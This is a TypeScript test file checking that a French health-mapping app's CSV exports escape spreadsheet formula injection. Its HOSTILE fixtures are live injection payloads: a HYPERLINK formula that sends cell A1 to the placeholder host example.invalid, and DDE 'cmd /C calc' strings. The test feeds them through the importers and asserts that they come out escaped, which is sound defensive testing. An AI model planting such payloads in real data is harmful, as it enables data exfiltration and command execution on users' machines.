// Formula injection (OWASP « CSV Injection »): hostile names brought in by the real importers (pharmacies from a
// FINESS file, CPTS from a CPTS file) and a hostile commune name reach every CSV the app writes; each cell of each
// export is opened and none may start a formula, while numbers (negative ones too) stay numbers.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Db } from '../../server/src/db/port.js';
import { toCsv } from '../../server/src/http/csv.js';
import { STRUCTURE_FIELDS } from '../../server/src/import/finess.js';
import { runImport } from '../../server/src/import/index.js';
import { describeEachBackend } from '../helpers/db.js';
import { startServer, type TestServer } from '../helpers/http.js';

const fx = (path: string) => fileURLToPath(new URL(`../fixtures/${path}`, import.meta.url));

/** Cell starts that a spreadsheet reads as a formula (OWASP), with their full-width forms. */
const DANGEROUS = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** A number as the CSV writes it (decimal comma): the only cells allowed to start with `-`. */
const NUMBER = /^-?\d+(,\d+)?$/;
/** A code kept as text for spreadsheets: a constant formula of letters and digits only, the only cells starting with `=`. */
const CODE_TEXT = /^="[0-9A-Za-z]{1,20}"$/;
const SAFE = new RegExp(`${NUMBER.source}|${CODE_TEXT.source}`);

const HOSTILE = {
  pharmacyA: '=HYPERLINK("http://example.invalid/?x="&A1;"clic")',
  pharmacyB: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  pharmacyC: '\t-2+3+cmd|\' /C calc\'!A0',
  cptsA: '+33 CPTS =1+1',
  cptsB: '-2+3',
  commune: '＝1+1 commune', // full-width equals sign
};

// A real 2021 FINESS record (a pharmacy in Nantes), moved to Les Sables-d'Olonne (85194) with a hostile name.
const BASE =
  "structureet;440013696;440006435;PHARMACIE;;;;90;R;DE LA BOURGEONNIERE;;;109;44;LOIRE-ATLANTIQUE;44300 NANTES;0240764052;;620;Pharmacie d'Officine;3201;Commerce de Biens à Usage Médicaux;50104528000028;;;;;;2019-01-07;;2020-12-16;";
function pharmacy(finess: string, name: string): string {
  const f = BASE.split(';');
  const set = (k: (typeof STRUCTURE_FIELDS)[number], v: string) => (f[STRUCTURE_FIELDS.indexOf(k)] = v);
  set('nofinesset', finess);
  set('rs', name.replace(/;/g, ','));
  set('commune', '194');
  set('departement', '85');
  set('ligneacheminement', '85100 LES SABLES D OLONNE');
  return f.join(';');
}

describe('toCsv', () => {
  it('escapes formula starts in text, keeps numbers (negative too) as numbers, quotes text', () => {
    const csv = toCsv(['a', 'b'], [['=1+1', -1.5], ['-3', -7], ['\tx', 0.25], ['@x', null], ['\rx', 'ok']]);
    const rows = parseCsv(csv, { delimiter: ';', bom: true }) as string[][];
    expect(rows).toEqual([
      ['a', 'b'],
      ["'=1+1", '-1,5'],
      ["'-3", '-7'],
      ["'\tx", '0,25'],
      ["'@x", ''],
      ["'\rx", 'ok'],
    ]);
    expect(csv).toContain('"\'=1+1";-1,5\r\n'); // text quoted, numbers bare
  });
  it('writes the code columns as ="…" text only for letters and digits; anything else in them is escaped text', () => {
    const csv = toCsv(['code', 'nom'], [['01234', '01234'], ['=1+1', 'x'], ['2A004', '-1'], [null, 'y']], { codeColumns: ['code'] });
    const rows = parseCsv(csv, { delimiter: ';', bom: true }) as string[][];
    expect(rows).toEqual([['code', 'nom'], ['="01234"', '01234'], ["'=1+1", 'x'], ['="2A004"', "'-1"], ['', 'y']]);
  });
});

describeEachBackend('CSV exports hold no live formula', (backend) => {
  let db: Db;
  let dispose: () => Promise<void>;
  let srv: TestServer;
  let dir: string;

  beforeAll(async () => {
    ({ db, dispose } = await backend.open());
    dir = await mkdtemp(join(tmpdir(), 'cpts-csv-'));
    await runImport(db, 'communes', [fx('cpts/communes-sables-olonne-2018.geojson')]);
    const finess = join(dir, 'finess-hostile.csv');
    await writeFile(
      finess,
      ['finess;etalab;3;2021-01-08', pharmacy('850099991', HOSTILE.pharmacyA), pharmacy('850099992', HOSTILE.pharmacyB), pharmacy('850099993', HOSTILE.pharmacyC)].join('\n') + '\n',
    );
    await runImport(db, 'finess', [finess]);
    const cpts = join(dir, 'cpts-hostile.csv');
    const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
    await writeFile(
      cpts,
      ['id;nom;statut;code_insee', ...['85194', '85112'].map((c) => `hostile-a;${quote(HOSTILE.cptsA)};projet;${c}`), ...['85194', '85214'].map((c) => `hostile-b;${quote(HOSTILE.cptsB)};projet;${c}`)].join('\n') + '\n',
    );
    await runImport(db, 'cpts', [cpts]);
    // commune names come from the COG package, not from a file: a hostile one stands for a corrupted source
    await db.query('UPDATE commune SET nom = $1 WHERE code = $2', [HOSTILE.commune, '85250']);
    srv = await startServer(db);
  });
  afterAll(async () => {
    await srv?.close();
    await dispose?.();
    await rm(dir, { recursive: true, force: true });
  });

  const exports = ['/api/pharmacies.csv', '/api/white-zones.csv', '/api/overlaps.csv'];

  it.each(exports)('%s: no cell starts a formula; the hostile names are there, escaped', async (path) => {
    const r = await srv.get(path);
    expect(r.status).toBe(200);
    const rows = parseCsv(Buffer.from(await r.arrayBuffer()).toString('utf8'), { delimiter: ';', bom: true }) as string[][];
    expect(rows.length).toBeGreaterThan(1);
    for (const row of rows) for (const cell of row) if (DANGEROUS.test(cell)) expect(cell, `${path}: ${JSON.stringify(row)}`).toMatch(SAFE);
    const text = rows.flat().join('\n');
    const expected = {
      '/api/pharmacies.csv': [HOSTILE.pharmacyA.replace(/;/g, ','), HOSTILE.pharmacyB, HOSTILE.pharmacyC.trim(), HOSTILE.cptsA, HOSTILE.cptsB],
      '/api/white-zones.csv': [HOSTILE.commune],
      '/api/overlaps.csv': [HOSTILE.cptsA, HOSTILE.cptsB],
    }[path]!;
    for (const name of expected) {
      if (DANGEROUS.test(name)) expect(text, path).toContain(`'${name}`);
      else expect(text, path).toContain(name);
    }
  });
});
